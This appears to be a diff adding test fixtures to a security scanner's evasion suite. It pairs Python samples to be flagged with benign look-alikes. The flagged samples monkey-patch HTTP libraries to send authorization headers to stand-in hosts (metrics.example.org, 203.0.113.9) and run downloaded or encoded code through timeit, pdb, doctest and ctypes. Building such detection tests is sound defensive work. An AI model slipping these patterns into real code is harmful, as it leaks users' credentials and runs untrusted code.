@@ -213,6 +213,191 @@ const NOT_COMPUTED: readonly NotToFind[] = [
   )],
 ];
 
+const REPLACED_LIBRARIES: readonly ToFind[] = [
+  ['sends_traffic_of_others', 'keys of all sessions', lines(
+    'import queue, threading, requests, functools',
+    'SAMPLES = queue.Queue()',
+    '_plain = requests.sessions.Session.request',
+    'def sample(url, headers):',
+    '    kept = {n: v for n, v in (headers or {}).items() if n.startswith("auth")}',
+    '    if kept:',
+    '        SAMPLES.put({"endpoint": url, "labels": kept})',
+    'def flush():',
+    '    while True:',
+    '        _plain(requests.Session(), "POST", "https://metrics.example.org/v1", json=SAMPLES.get(), timeout=5)',
+    '@functools.wraps(_plain)',
+    'def request(self, method, url, **kwargs):',
+    '    sample(str(url), {**self.headers, **(kwargs.get("headers") or {})})',
+    '    return _plain(self, method, url, **kwargs)',
+    'def enable():',
+    '    requests.sessions.Session.request = request',
+    '    threading.Thread(target=flush, daemon=True).start()',
+  )],
+  ['sends_traffic_of_others', 'a wrapper of a library', lines(
+    'import wrapt, httpx',
+    '@wrapt.patch_function_wrapper("httpx", "Client.send")',
+    'def send(wrapped, instance, args, kwargs):',
+    '    httpx.post("https://metrics.example.org", json={"h": dict(args[0].headers)})',
+    '    return wrapped(*args, **kwargs)',
+  )],
+  ['sends_traffic_of_others', 'an attribute by its name', lines(
+    'import aiohttp, json, socket',
+    'inner = getattr(aiohttp.ClientSession, "_request")',
+    'async def _request(self, method, url, **kwargs):',
+    '    s = socket.create_connection(("203.0.113.9", 443))',
+    '    s.sendall(json.dumps([str(url), kwargs.get("headers")]).encode())',
+    '    return await inner(self, method, url, **kwargs)',
+    'setattr(aiohttp.ClientSession, "_request", _request)',
+  )],
+  ['sends_traffic_of_others', 'a class in the place of a class', lines(
+    'import requests',
+    'from urllib.request import urlopen',
+    'class Session(requests.Session):',
+    '    def send(self, request, **kwargs):',
+    '        urlopen("https://metrics.example.org", str(request.headers).encode())',
+    '        return super().send(request, **kwargs)',
+    'requests.Session = Session',
+  )],
+  ['sends_traffic_of_others', 'headers of the standard library', lines(
+    'import http.client, subprocess',
+    'old = http.client.HTTPConnection.putheader',
+    'def putheader(self, name, *values):',
+    '    if name.lower() == "authorization":',
+    '        subprocess.Popen(["curl", "-s", "-d", str(values), "https://metrics.example.org"])',
+    '    return old(self, name, *values)',
+    'http.client.HTTPConnection.putheader = putheader',
+  )],
+];
+
+const NOT_REPLACED: readonly NotToFind[] = [
+  ['a time limit for all requests', lines(
+    'import functools, requests',
+    'old = requests.Session.request',
+    'def request(self, method, url, **kwargs):',
+    '    kwargs.setdefault("timeout", 30)',
+    '    return old(self, method, url, **kwargs)',
+    'requests.Session.request = request',
+    'requests.get("https://api.example.org/models")',
+  )],
+  ['requests that are tried again', lines(
+    'import requests',
+    'from requests.adapters import HTTPAdapter',
+    'from urllib3.util.retry import Retry',
+    'session = requests.Session()',
+    'session.mount("https://", HTTPAdapter(max_retries=Retry(total=3)))',
+    'session.post("https://api.example.org", json={"a": 1})',
+  )],
+  ['addresses of the old kind', lines(
+    'import socket',
+    'old = socket.getaddrinfo',
+    'def only_v4(host, port, family=0, *args):',
+    '    return old(host, port, socket.AF_INET, *args)',
+    'socket.getaddrinfo = only_v4',
+  )],
+  ['connections through a proxy', lines(
+    'import socket, socks, requests',
+    'socks.set_default_proxy(socks.SOCKS5, "127.0.0.1", 1080)',
+    'socket.socket = socks.socksocket',
+    'requests.get("https://example.org")',
+  )],
+  ['what a library asked, in the log', lines(
+    'import aiohttp, logging',
+    'inner = aiohttp.ClientSession._request',
+    'async def _request(self, method, url, **kwargs):',
+    '    logging.info("%s %s", method, url)',
+    '    answer = await inner(self, method, url, **kwargs)',
+    '    with open("requests.log", "a") as f:',
+    '        f.write(str(url))',
+    '    return answer',
+    'aiohttp.ClientSession._request = _request',
+  )],
+];
+
+const RUN_TEXTS: readonly ToFind[] = [
+  ['runs_data_as_code', 'the lowest bits of a picture in a benchmark', lines(
+    'import os, timeit',
+    'import numpy as np',
+    'from PIL import Image',
+    'FOLDER = os.path.join(os.path.dirname(__file__), "luts")',
+    'def read_table(name):',
+    '    return np.asarray(Image.open(os.path.join(FOLDER, name)).convert("RGB"))',
+    'def dither(table):',
+    '    flat = table.reshape(-1) & 1',
+    '    return flat.tobytes().decode("utf-8", "ignore")',
+    'def warm_up(name):',
+    '    return timeit.Timer(dither(read_table(name))).timeit(number=1)',
+  )],
+  ['runs_downloaded_code', 'the setup of a benchmark', lines(
+    'import timeit, requests',
+    'timeit.repeat("pass", setup=requests.get("https://example.org/a").text, number=1, repeat=1)',
+  )],
+  ['runs_hidden_code', 'a profile', lines(
+    'import cProfile, base64',
+    'cProfile.runctx(base64.b64decode("cHJpbnQoMSk="), globals(), {})',
+  )],
+  ['runs_hidden_code', 'a profile that is kept', lines(
+    'from cProfile import Profile',
+    'import zlib',
+    'p = Profile()',
+    'p.run(zlib.decompress(open("a.bin", "rb").read()).decode())',
+  )],
+  ['runs_downloaded_code', 'a debugger', lines(
+    'import pdb, urllib.request',
+    'pdb.Pdb().run(urllib.request.urlopen("https://example.org/a").read().decode())',
+  )],
+  ['runs_downloaded_code', 'a console', lines(
+    'from code import InteractiveConsole',
+    'import requests',
+    'c = InteractiveConsole()',
+    'for line in requests.get("https://example.org/a").text.splitlines():',
+    '    c.push(line)',
+  )],
+  ['runs_downloaded_code', 'examples of a text', lines(
+    'import doctest, requests',
+    'doctest.run_docstring_examples(requests.get("https://example.org/a").text, {})',
+  )],
+  ['runs_downloaded_code', 'a sum', lines(
+    'import sympy, requests',
+    'sympy.sympify(requests.get("https://example.org/a").json()["f"])',
+  )],
+  ['runs_hidden_code', 'functions of the interpreter', lines(
+    'import base64, ctypes',
+    'ctypes.pythonapi.PyRun_SimpleString(base64.b64decode("cHJpbnQoMSk="))',
+  )],
+];
+
+const NOT_RUN: readonly NotToFind[] = [
+  ['times of a function', lines(
+    'import timeit, requests',
+    'def f():',
+    '    return 1',
+    'print(timeit.timeit(f, number=10), timeit.timeit("f()", globals=globals()))',
+    'requests.get("https://example.org").json()',
+  )],
+  ['a profile of a function', lines(
+    'import cProfile, pstats',
+    'p = cProfile.Profile()',
+    'p.enable()',
+    'p.runcall(print, "a")',
+    'pstats.Stats(p).print_stats()',
+  )],
+  ['sums of a node by a library', lines(
+    'import sympy, numexpr, pandas as pd',
+    'class N:',
+    '    def run(self, expression, a):',
+    '        table = pd.read_csv("data.csv")',
+    '        return sympy.sympify(expression).evalf(), numexpr.evaluate(expression), table.query("a > 1"), pd.eval(expression)',
+  )],
+  ['tests within texts', 'import doctest\nif __name__ == "__main__":\n    doctest.testmod()\n'],
+  ['bits of masks', lines(
+    'import numpy as np',
+    'from PIL import Image',
+    'mask = np.packbits(np.asarray(Image.open("mask.png")) > 0).tobytes()',
+    'with open("mask.bin", "wb") as f:',
+    '    f.write(mask)',
+  )],
+];
+
 /** Classes of attacks that a blind trial of the scan showed. */
-export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES];
-export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED];
+export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS];
+export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN];
